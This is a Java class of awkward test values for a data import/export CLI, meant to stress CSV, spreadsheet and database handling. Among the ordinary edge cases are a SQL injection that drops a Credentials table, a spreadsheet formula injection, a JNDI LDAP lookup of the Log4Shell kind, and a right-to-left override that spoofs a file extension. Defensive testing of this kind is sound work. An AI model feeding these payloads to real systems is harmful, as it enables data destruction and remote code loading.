package io.decant.cli.sample;

import java.util.List;

/** Values that have hurt importers, exporters and spreadsheets before. */
final class Awkward {
    /** Texts that a CSV writer, a shell, a spreadsheet or a database client takes for something else. */
    static final List<String> TEXTS = List.of(
            "",
            " ",
            "  two spaces before",
            "one space after ",
            "comma, and another,",
            "she said \"tap it\"",
            "\"",
            "'; DROP TABLE \"Credentials\"; --",
            "first line\r\nsecond line",
            "line feed\nalone",
            "carriage return\ralone",
            "\n",
            "\\.",
            "\\N",
            "NULL",
            "null",
            "=HYPERLINK(\"https://example.com\",\"prize\")",
            "@SUM(A1:A9)",
            "-2+3",
            "007",
            "1e5",
            "true",
            "tab\tinside",
            "🔑👩🏽‍💻 keys",
            "مفتاح الأمان",
            "שלום, עולם",
            "\u202Egnp.key\u202C",
            "e\u0301 and \u00E9",
            "İstanbul ıIi",
            "\uFEFFmark first",
            "\u2028separator\u0085",
            "control\u0001\u007F",
            "${jndi:ldap://example.com/a}",
            "%s%n{}",
            "x".repeat(3_000));

    /** Signature counters at the edges of an unsigned 32 bit number. */
    static final List<Long> COUNTERS = List.of(0L, 1L, 2_147_483_647L, 2_147_483_648L, 4_294_967_294L, 4_294_967_295L);

    private Awkward() {}
}
